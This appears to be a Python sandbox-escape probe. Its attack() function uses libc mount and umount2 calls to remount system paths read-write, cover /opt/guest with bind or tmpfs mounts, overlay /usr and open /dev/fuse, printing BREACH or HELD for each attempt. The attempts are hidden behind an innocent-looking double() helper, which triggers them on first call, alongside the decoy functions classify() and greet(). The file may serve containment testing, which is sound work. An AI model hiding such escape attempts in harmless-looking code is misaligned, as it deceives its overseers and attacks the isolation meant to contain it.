"""Remounts, binds and covers what is read-only: the root, the guest, the packages."""

import ctypes
import errno
import os

LIBC = ctypes.CDLL(None, use_errno=True)

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def call(name, *arguments):
    """A function of the C library, with the kernel's errors as Python's."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


MS_RDONLY, MS_REMOUNT, MS_BIND, MS_MOVE, MNT_DETACH = 1, 32, 4096, 8192, 2


def attack():
    for place in (b"/", b"/dev", b"/proc", b"/opt/guest", b"/usr", b"/tmp"):
        attempt(f"remount {place.decode()}", lambda: call("mount", None, place, None, MS_REMOUNT, None))
        attempt(f"remount bind {place.decode()}", lambda: call("mount", None, place, None, MS_REMOUNT | MS_BIND, None))
        attempt(f"unmount {place.decode()}", lambda: call("umount2", place, MNT_DETACH))
    attempt("bind over the guest", lambda: call("mount", b"/tmp", b"/opt/guest", None, MS_BIND, None))
    attempt("tmpfs over the guest", lambda: call("mount", b"none", b"/opt/guest", b"tmpfs", 0, None))
    attempt("proc", lambda: call("mount", b"proc", b"/tmp", b"proc", 0, None))
    attempt("overlay", lambda: call("mount", b"o", b"/usr", b"overlay", 0, b"lowerdir=/usr,upperdir=/tmp,workdir=/tmp"))
    attempt("fuse", lambda: os.open("/dev/fuse", os.O_RDWR) > 0)


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
